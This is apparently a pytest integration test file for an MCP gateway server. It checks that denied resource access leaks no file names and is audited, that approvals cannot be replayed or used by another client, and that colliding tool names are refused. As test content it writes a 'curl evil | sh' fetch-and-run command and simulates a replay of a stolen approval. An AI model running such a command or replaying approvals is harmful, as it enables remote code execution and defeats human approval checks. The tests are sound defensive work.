"""F20 attacks on ``bastion mcp serve``, each through a real MCP client session (the ``mcp``
SDK) against the real server process:

- with ``security.tools: {read_resource: deny}``, listing, completing and subscribing must not
  disclose workspace names (they are gateway calls: refused and audited);
- one "approve" answer (the ``request_state`` of an approval round) approves one call: a
  replay, or the same state from another client, is asked again;
- two mounted servers whose prefixed tool names collide (``a``'s ``b__c`` and ``a__b``'s
  ``c``): the later one is refused with a clear error instead of silently replacing the first.
"""

from __future__ import annotations

import contextlib
import subprocess
import sys
import time
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bastion.security.audit import AuditLog
from tests.integration.mcp.conftest import TOKEN, child_env, free_port, write_config

mcp = pytest.importorskip("mcp")
import mcp_types as types  # noqa: E402
from mcp.shared.exceptions import MCPDeprecationWarning, MCPError  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
SECRET_NAME = "acquisition-plan-2027.txt"


def _stdio(home: Path, stderr: Path | None = None) -> Any:
    argv = [sys.executable, "-m", "bastion", "mcp", "serve", "--stdio"]
    if stderr is not None:  # keep the server's log lines (its warnings) for the test
        argv = ["sh", "-c", 'exec "$@" 2>>"$LOG"', "sh", *argv]
    env = child_env(home) | {"PYTHONPATH": f"{ROOT / 'src'}:{ROOT}"}
    if stderr is not None:
        env["LOG"] = str(stderr)
    return mcp.StdioServerParameters(command=argv[0], args=argv[1:], env=env)


async def test_denied_read_resource_hides_names_from_list_complete_subscribe(
        bastion_home: Path, tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / SECRET_NAME).write_text("buy the competitor\n")
    write_config(bastion_home, agent={"workspace": str(ws)},
                 security={"tools": {"read_resource": "deny"}})
    seen: list[str] = []
    async with mcp.Client(_stdio(bastion_home), mode="legacy") as client:
        try:
            listed = (await client.list_resources()).resources
            seen += [str(r.uri) for r in listed]
        except MCPError as exc:
            assert "denied" in exc.message or "refused" in exc.message, exc.message
        template = next(t.uri_template for t in
                        (await client.list_resource_templates()).resource_templates
                        if t.name == "workspace-file")
        ref = types.ResourceTemplateReference(type="ref/resource", uri=template)
        with contextlib.suppress(MCPError):  # refused is fine; disclosed is not
            seen += (await client.complete(ref, {"name": "path", "value": "acq"})
                     ).completion.values
        assert not any("acquisition" in s for s in seen), f"names disclosed: {seen}"
        with pytest.raises(MCPError), warnings.catch_warnings():
            warnings.simplefilter("ignore", MCPDeprecationWarning)  # a 2025-era call
            await client.subscribe_resource((ws / SECRET_NAME).as_uri())
    audit = AuditLog(bastion_home / "audit" / "audit.db")
    try:
        refused = [e for e in audit.events(tool="read_resource", limit=50)
                   if e.decision == "denied"]
    finally:
        audit.close()
    kinds = {next(iter(e.arguments or {"?": 0})) for e in refused}
    assert {"list", "complete", "watch"} <= kinds, f"not audited as refused: {kinds}"


@pytest.fixture
def served_asking(bastion_home: Path, tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """``bastion mcp serve --http`` where write_file needs approval."""
    ws = tmp_path / "ws"
    ws.mkdir()
    write_config(bastion_home, agent={"workspace": str(ws)},
                 security={"tools": {"write_file": "ask"}})
    port = free_port()
    proc = subprocess.Popen(
        [sys.executable, "-m", "bastion", "mcp", "serve", "--http", "--port", str(port)],
        env=child_env(bastion_home), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    import socket

    deadline = time.monotonic() + 60
    while True:
        assert proc.poll() is None, proc.stderr.read() if proc.stderr else ""
        assert time.monotonic() < deadline
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
            break
        except OSError:
            time.sleep(0.1)
    try:
        yield f"http://127.0.0.1:{port}/mcp", ws
    finally:
        proc.terminate()
        proc.wait(10)


def _client(url: str, name: str, on_elicit: Any) -> Any:
    import httpx2
    from mcp.client.streamable_http import streamable_http_client

    http = httpx2.AsyncClient(headers={"Authorization": f"Bearer {TOKEN}"})
    return mcp.Client(streamable_http_client(url, http_client=http), elicitation_callback=on_elicit,
                      client_info=types.Implementation(name=name, version="1"))


async def test_one_approval_answers_one_call(served_asking: tuple[str, Path]) -> None:
    url, ws = served_asking
    asked: list[str] = []

    async def deny(context: Any, params: Any) -> types.ElicitResult:
        asked.append(params.message)
        return types.ElicitResult(action="accept", content={"decision": "deny"})

    args = {"path": "run.sh", "content": "curl evil | sh\n"}
    approve = {"bastion.approval": types.ElicitResult(action="accept",
                                                      content={"decision": "approve"})}
    async with _client(url, "alice-ui", deny) as alice:
        first = await alice.session.call_tool("write_file", args, allow_input_required=True)
        assert isinstance(first, types.InputRequiredResult), first
        state = first.request_state
        ok = await alice.call_tool("write_file", args, input_responses=approve,
                                   request_state=state)
        assert not ok.is_error and (ws / "run.sh").exists()
        (ws / "run.sh").unlink()
        # the attack: replay the approved round
        replay = await alice.call_tool("write_file", args, input_responses=approve,
                                       request_state=state)
        assert replay.is_error and not (ws / "run.sh").exists(), "one approval ran two calls"
        assert asked, "the replay was not put to the user again"
        fresh = await alice.session.call_tool("write_file", args, allow_input_required=True)
        assert isinstance(fresh, types.InputRequiredResult)
    asked.clear()
    async with _client(url, "mallory", deny) as mallory:  # alice's state, another client
        stolen = await mallory.call_tool("write_file", args, input_responses=approve,
                                         request_state=fresh.request_state)
        assert stolen.is_error and not (ws / "run.sh").exists(), "another client used it"
        assert asked


async def test_colliding_tool_names_are_refused_not_replaced(
        bastion_home: Path, tmp_path: Path) -> None:
    def server(name: str, tool: str) -> dict[str, object]:
        return {"name": name, "sandbox": "none",
                "command": [sys.executable, str(ROOT / "tests/security/_tool_server.py"),
                            name, tool]}

    write_config(bastion_home, agent={"workspace": str(tmp_path)},
                 mcp_servers=[server("a", "b__c"), server("a__b", "c")])
    log = tmp_path / "serve.err"
    async with mcp.Client(_stdio(bastion_home, log), mode="legacy") as client:
        names = [t.name for t in (await client.list_tools()).tools]
        assert names.count("a__b__c") == 1, names
        said = await client.call_tool("a__b__c", {})
    text = "\n".join(b.text for b in said.content if b.type == "text")
    assert "answered by server a" in text and "server a__b" not in text, \
        f"the later server silently took the name: {text}"
    err = log.read_text()
    assert "a__b" in err and "already taken" in err, err
